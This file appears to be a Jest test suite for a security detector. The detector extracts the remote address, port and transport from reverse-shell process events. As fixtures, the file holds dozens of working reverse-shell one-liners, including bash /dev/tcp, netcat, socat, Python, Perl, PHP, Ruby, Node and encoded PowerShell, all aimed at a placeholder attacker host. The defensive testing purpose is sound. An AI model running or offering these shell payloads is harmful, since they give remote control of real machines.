import { describe, expect, it, test } from '@jest/globals';
import * as fc from 'fast-check';
import type { Json, JsonObject } from '../../src/contracts/types.ts';
import { loadMappings } from '../../src/mapping/load.ts';
import { profilesOf } from '../../src/mapping/profiles.ts';
import { draws } from '../full.ts';
import { payloadOf, read } from './harness.ts';

const shipped = profilesOf(loadMappings());

const toOf = (event: JsonObject, id = 'Reverse-Shell') => {
  const { endpoint } = read(payloadOf(id, { process_events: [event] }));
  return endpoint === undefined ? undefined : `${endpoint.address}:${endpoint.port}`;
};
const by = (exe: string, ...args: Json[]): JsonObject => ({ exe, arguments: args });
const powershell = String.raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`;
const client = `$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$stream = $client.GetStream();`;

describe('the far end that a script names', () => {
  test.each<[string, JsonObject]>([
    [
      'Python',
      by(
        '/usr/bin/python3.12',
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")',
      ),
    ],
    ['Python, as one text', { exe: 'python3', arguments: `python3 -c "s.connect(('203.0.113.9', 4444))"` }],
    [
      'Python, with variables',
      by('/bin/sh', 'sh', '-c', 'export RHOST="203.0.113.9";export RPORT=4444;python -c "x"'),
    ],
    ['Python, with another function', by('python3', '-c', 'socket.create_connection(("203.0.113.9",4444))')],
    [
      'Perl',
      by(
        '/usr/bin/perl',
        'perl',
        '-e',
        'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));',
      ),
    ],
    [
      'Perl’s IO',
      by(
        '/usr/bin/perl',
        '-MIO',
        '-e',
        '$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);',
      ),
    ],
    [
      'Perl’s IO by name',
      by('perl', '-e', 'IO::Socket::INET->new(PeerHost=>"203.0.113.9", PeerPort=>"4444")'),
    ],
    [
      'PHP',
      by('/usr/bin/php8.3', 'php', '-r', '$sock=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");'),
    ],
    ['PHP’s streams', by('php', '-r', '$s=stream_socket_client("tcp://203.0.113.9:4444");')],
    [
      'Ruby',
      by(
        '/usr/bin/ruby',
        'ruby',
        '-rsocket',
        '-e',
        'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("sh -i <&%d",f)',
      ),
    ],
    ['Ruby’s new', by('ruby', '-rsocket', '-e', `c=TCPSocket.new('203.0.113.9','4444')`)],
    ['Node', by('/usr/bin/node', '-e', 'c=new net.Socket();c.connect(4444, "203.0.113.9", function(){})')],
    ['Go', by('/tmp/x', '-c', 'c,_:=net.Dial("tcp","203.0.113.9:4444")')],
    ['awk', by('/usr/bin/mawk', 'awk', 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; }')],
    ['socat', by('/usr/bin/socat', 'socat', 'TCP:203.0.113.9:4444', 'EXEC:/bin/sh')],
    [
      'socat, the other way round',
      by('/usr/bin/socat', 'exec:bash -li,pty,stderr', 'tcp4-connect:203.0.113.9:4444'),
    ],
    ['socat with TLS', by('socat', 'OPENSSL:203.0.113.9:4444,verify=0', 'EXEC:sh')],
    [
      'OpenSSL',
      by('sh', '-c', 'mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > s'),
    ],
    [
      'netcat in a pipe',
      by('/usr/bin/dash', 'sh', '-c', 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 203.0.113.9 4444 >f'),
    ],
    ['netcat with quotes', by('/bin/bash', 'bash', '-c', `nc -c 'bash -li' "203.0.113.9" 4444`)],
    ['netcat under sudo', by('/usr/bin/sudo', 'sudo', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444')],
    ['BusyBox netcat', by('/bin/busybox', 'nc', '203.0.113.9', '4444', '-e', 'sh')],
    ['telnet', by('sh', '-c', 'telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445')],
    [
      'netcat on Windows',
      by(
        String.raw`C:\tools\NCAT.EXE`,
        String.raw`C:\tools\ncat.exe`,
        '203.0.113.9',
        '4444',
        '-e',
        'cmd.exe',
      ),
    ],
    ['Perl’s own', by('perl', '-e', `connect(S,sockaddr_in(4444,inet_aton('203.0.113.9')));exec("sh -i")`)],
    ['Perl’s packed', by('perl', '-e', `pack_sockaddr_in(4444, inet_aton("203.0.113.9"))`)],
    [
      'Perl’s variables',
      by('perl', '-e', `$a="203.0.113.9";$b=4444;connect(S,sockaddr_in($b,inet_aton($a)));`),
    ],
    [
      'Perl’s IO, the port first',
      by('perl', '-e', `IO::Socket::INET->new(PeerPort=>4444,PeerHost=>"203.0.113.9")`),
    ],
    ['PHP’s socket', by('php', '-r', `$s=socket_create(2,1,6);socket_connect($s,'203.0.113.9',4444);`)],
    ['PHP’s variables', by('php', '-r', `$to='203.0.113.9';$at=4444;$s=fsockopen($to,$at,$no,$text,30);`)],
    ['Python’s variables', by('python3', '-c', `h='203.0.113.9';p=4444;s.connect((h,p))`)],
    ['Python’s text as a number', by('python3', '-c', `h='203.0.113.9';p='4444';s.connect((h,int(p)))`)],
    ['Ruby’s packed', by('ruby', '-e', `s.connect(Socket.pack_sockaddr_in(4444, "203.0.113.9"))`)],
    ['Node’s options', by('node', '-e', `net.connect({host:'203.0.113.9',port:4444})`)],
    [
      'Node’s options, the port first',
      by('node', '-e', `net.createConnection({ port: 4444, host: "203.0.113.9" })`),
    ],
    ['Node’s socket', by('node', '-e', `new net.Socket().connect(4444,'203.0.113.9')`)],
    ['Node’s variables', by('node', '-e', `const p=4444, h='203.0.113.9'; net.connect(p, h)`)],
    ['64-bit netcat', by(String.raw`C:\t\nc64.exe`, 'nc64.exe', '203.0.113.9', '4444', '-e', 'cmd')],
    ['netcat with a login shell', { exe: '/bin/ncat', arguments: 'ncat 203.0.113.9 4444 -e bash -l' }],
    ['netcat with a login shell, word by word', by('ncat', '203.0.113.9', '4444', '-e', 'bash', '-l')],
    [
      'zsh',
      by('zsh', '-c', 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'),
    ],
    [
      'curl',
      by('sh', '-c', `C='curl -Ns telnet://203.0.113.9:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null`),
    ],
    ['an opened file', by('bash', '-c', '0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196')],
    ['a group', by('bash', '-c', '(sh)0>/dev/tcp/203.0.113.9/4444')],
    ['a variable of the shell', by('bash', '-c', 'H=203.0.113.9 P=4444; bash -i >& /dev/tcp/$H/${P} 0>&1')],
    ['PowerShell', by(powershell, 'powershell.exe', '-nop', '-c', client)],
    ['PowerShell’s new', by('pwsh', '-Command', `[System.Net.Sockets.TcpClient]::new("203.0.113.9", 4444)`)],
    [
      'PowerShell in base64',
      by(powershell, '-nop', '-enc', Buffer.from(client, 'utf16le').toString('base64')),
    ],
    [
      'PowerShell in base64, as one text',
      {
        exe: powershell,
        arguments: `powershell -EncodedCommand ${Buffer.from(client, 'utf16le').toString('base64')}`,
      },
    ],
  ])('%s', (_, event) => {
    expect(toOf(event)).toBe('203.0.113.9:4444');
  });

  test.each<[string, JsonObject]>([
    ['a socat listener', by('socat', 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh')],
    ['a Python listener', by('python3', '-c', 's.bind(("0.0.0.0",4444));s.listen(1)')],
    [
      'a name that is a variable',
      by('python3', '-c', 's.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))'),
    ],
    ['an invalid port', by('php', '-r', 'fsockopen("203.0.113.9",444444)')],
    ['other base64', by(powershell, '-enc', 'QUJDREVGR0hJSktMTU5PUA==')],
    ['a variable that is never set', by('bash', '-c', 'bash -i >& /dev/tcp/$H/4444 0>&1')],
    ['variables that are not a host and port', by('python3', '-c', `h=5;p=6;s.connect((h,p))`)],
    ['a listener with an address', by('ncat', '-e', 'sh', '-l', '203.0.113.9', '4444')],
    ['a port check', by('nc', '-vz', '203.0.113.9', '4444')],
    ['a mail', by('sh', '-c', 'mail -s "connect 203.0.113.9 at 4444"')],
  ])('is not guessed: %s', (_, event) => {
    expect(toOf(event)).toBeUndefined();
  });

  it('may be a name, or IPv6', () => {
    expect(toOf(by('socat', 'TCP6:[2001:db8::9]:4444', 'EXEC:sh'))).toBe('2001:db8::9:4444');
    expect(toOf(by('php', '-r', 'fsockopen("C2.example",443)'))).toBe('c2.example:443');
  });

  it('has the transport that the script names', () => {
    const transportOf = (script: string) =>
      read(payloadOf('Reverse-Shell', { process_events: [by('bash', '-c', script)] })).endpoint?.transport;
    expect(transportOf('bash -i >& /dev/udp/c2.example/53')).toBe('udp');
    expect(transportOf('bash -i >& /dev/tcp/c2.example/53')).toBe('tcp');
    expect(transportOf('nc c2.example 53')).toBeUndefined();
    expect(transportOf('nc -nvu c2.example 53 -e sh')).toBe('udp');
    expect(transportOf('ncat --udp c2.example 53 -e /bin/sh')).toBe('udp');
    expect(transportOf('nc c2.example 53 -e /usr/bin/zsh -u')).toBeUndefined();
  });

  it('is read only for kinds that may hold reverse shells', () => {
    const event = by('nc', '203.0.113.9', '4444');
    expect(toOf(event, 'Suspicious-Process-Events')).toBe('203.0.113.9:4444');
    expect(toOf(event, 'Privileged-Container')).toBeUndefined();
  });
});

/** Each with a shell that is attached to it. */
const SHELLS = [
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'sh -i 5<> /dev/tcp/203.0.113.9/4444 0<&5 1>&5 2>&5',
  'exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196',
  'exec 5<>/dev/tcp/203.0.113.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done',
  '(sh)0>/dev/tcp/203.0.113.9/4444',
  'key=/dev/tcp/203.0.113.9/4444; bash -i >& $key 0>&1',
  'nc 203.0.113.9 4444 -e /bin/sh',
  'nc -nvc sh 203.0.113.9 4444',
  'ncat 203.0.113.9 4444 -e bash -l',
  'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f',
  'sudo -u root nc 203.0.113.9 4444 -e sh',
  'telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445',
  'mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > s',
  "C='curl -Ns telnet://203.0.113.9:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
  'socat TCP:203.0.113.9:4444 EXEC:/bin/sh',
  "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
  `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'`,
  `perl -e 'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("sh -i");};'`,
  `php -r '$s=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");'`,
  `ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.9",4444))'`,
  `node -e 'var c=new net.Socket(),sh=require("child_process").spawn("sh");c.connect(4444,"203.0.113.9",()=>{c.pipe(sh.stdin)})'`,
  `bash <<< 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'`,
  `echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' | bash`,
  `eval 'nc 203.0.113.9 4444 -e sh'`,
  `bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"`,
  `nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &`,
];
/** Connections without a shell, and words that are not run. */
const DECOYS = [
  'nc -z db 5432',
  'nc -vz -w 3 db.example 5432 && true',
  'echo hi >/dev/tcp/127.0.0.1/22',
  'exec 7<>/dev/tcp/198.51.100.1/80',
  "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/198.51.100.1/5432'",
  'echo nc -e sh 198.51.100.1 1',
  'echo "bash -i >& /dev/tcp/198.51.100.1/1 0>&1"',
  '# nc -e sh 198.51.100.1 1\n',
  'curl -s telnet://198.51.100.1:25',
  'openssl s_client -connect 198.51.100.1:443 </dev/null',
  'socat TCP-LISTEN:80,fork TCP:198.51.100.1:80',
  `python3 -c 'import socket;socket.create_connection(("198.51.100.1",22))'`,
  'bash build.sh | nc 198.51.100.1 514',
  'nc -e sh 127.0.0.1 1',
  'i=1; p=2; h=x',
  'key=value',
  'sleep 1 &',
];

describe('the far end that a shell is attached to', () => {
  const alone = (script: string, id = 'Reverse-Shell') => {
    const payload = payloadOf(id, { process_events: [by('/usr/bin/bash', 'bash', '-c', script)] });
    const { endpoint, threat } = read(payload, shipped);
    return [endpoint?.address, endpoint?.port, threat?.ids];
  };
  const expected = ['203.0.113.9', 4_444, ['T1059.004', 'T1095']];

  test.each(SHELLS)('%s', (shell) => {
    expect(alone(shell)).toEqual(expected);
    expect(alone(shell, 'Suspicious-Process-Call')).toEqual(expected);
    for (const decoy of DECOYS) {
      expect([decoy, ...alone(`${decoy}; ${shell}`)]).toEqual([decoy, ...expected]);
      expect([decoy, ...alone(`${shell}\n${decoy}`)]).toEqual([decoy, ...expected]);
    }
  });

  it('is the same whatever is before, after and around it', () => {
    const decoys = fc.array(fc.constantFrom(...DECOYS), { maxLength: 4 });
    const joint = fc.constantFrom('; ', ' && ', ' || ', '\n', ' & ');
    const wraps: readonly ((script: string) => JsonObject)[] = [
      (script) => by('/usr/bin/bash', 'bash', '-c', script),
      (script) => by('/usr/bin/dash', 'sh', '-ec', script),
      (script) => by('/usr/bin/sudo', 'sudo', 'bash', '-c', script),
      (script) => ({ exe: '/usr/bin/bash', arguments: script }),
    ];
    fc.assert(
      fc.property(
        decoys,
        fc.constantFrom(...SHELLS),
        decoys,
        joint,
        fc.constantFrom(...wraps),
        (before, shell, after, by2, wrap) => {
          const event = wrap([...before, shell, ...after].map((one) => `${one}${by2}`).join(''));
          const decoy = by('/usr/bin/nc', 'nc', '-z', 'db', '5432');
          for (const process_events of [[event], [decoy, event], [event, decoy]]) {
            const { endpoint, threat } = read(payloadOf('Reverse-Shell', { process_events }), shipped);
            expect([endpoint?.address, endpoint?.port, threat?.ids]).toEqual(expected);
          }
        },
      ),
      { numRuns: draws(500) },
    );
  });

  it('is found after more text than fields hold', () => {
    const secret = `PASSWORD='${'x'.repeat(20)}'`;
    for (const before of [': ' + 'x'.repeat(20_000), `: ${'x'.repeat(20_000)}; ${secret}`])
      expect(alone(`${before}; ${SHELLS[0]}`)).toEqual(expected);
  });

  it('may be in one script with others', () => {
    const python = (...connects: string[]) =>
      `python3 -c 'import socket,os,pty;${connects.join(';')};os.dup2(s.fileno(),0);pty.spawn("sh")'`;
    const decoy = 't=socket.socket();t.connect(("198.51.100.1",22))';
    const real = 's=socket.socket();s.connect(("203.0.113.9",4444))';
    expect(alone(python(decoy, real))).toEqual(expected);
    expect(alone(python(real, decoy))).toEqual(expected);
    const comment = '# s.connect(("198.51.100.1",22))';
    expect(alone(`python3 -c '${comment}\nimport os\n  ${comment}\n${real}\nos.dup2(s.fileno(),0)'`)).toEqual(
      expected,
    );
  });

  it('is the first of several, and one on this machine only if there is no other', () => {
    const to = (host: string) => `nc -e sh ${host} 4444`;
    expect(alone(`${to('203.0.113.9')}; ${to('203.0.113.10')}`)).toEqual(expected);
    expect(alone(`${to('localhost')}; ${to('203.0.113.9')}`)).toEqual(expected);
    expect(alone(to('localhost'))[0]).toBe('localhost');
  });

  it('makes a process of an unknown kind a reverse shell', () => {
    expect(alone('nc db.example 5432', 'Suspicious-Process-Call')).toEqual(['db.example', 5_432, undefined]);
    expect(alone('socat TCP-LISTEN:80,fork TCP:db.example:80', 'Suspicious-Process-Events')).toEqual([
      'db.example',
      80,
      undefined,
    ]);
  });
});
